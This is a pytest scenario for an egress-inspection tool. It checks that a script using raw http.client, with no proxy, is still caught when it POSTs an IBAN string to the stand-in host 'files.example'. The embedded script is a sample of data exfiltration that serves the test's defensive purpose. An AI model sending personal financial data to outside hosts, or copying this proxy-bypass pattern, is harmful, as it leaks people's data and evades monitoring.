"""`outgate run --sealed`: a program of which nothing gets past the gate, whatever it heeds."""

import sys
from typing import Any

from tests.scenarios.conftest import Outgate, summary

BARE = """
import http.client, ssl, sys

def ask(host):
    c = http.client.HTTPSConnection(host, timeout=20)
    c.request("POST", "/up", body="iban DE90871318609139099603")
    return c.getresponse().status

print(ask("files.example"))
sys.exit(3)
"""


def test_a_client_that_knows_no_proxy_is_inspected(outgate: Outgate) -> None:
    """A bare http.client, which heeds no proxy variable, is inspected like any other client."""
    script = outgate.script("bare.py", BARE)
    done = outgate.run(sys.executable, str(script), options=("--json", "--sealed"))

    assert (done.returncode, done.stdout.strip()) == (3, "200"), done.stderr
    [record] = summary(done)["records"]
    assert record["destination"]["host"] == "files.example"
    sender = record["sender"]
    assert (sender["certainty"], sender["script"]["path"]) == ("exact", str(script)), sender
    assert sender["line"]["function"] == "ask"
    assert "iban" in {f["kind"] for f in record["findings"]}
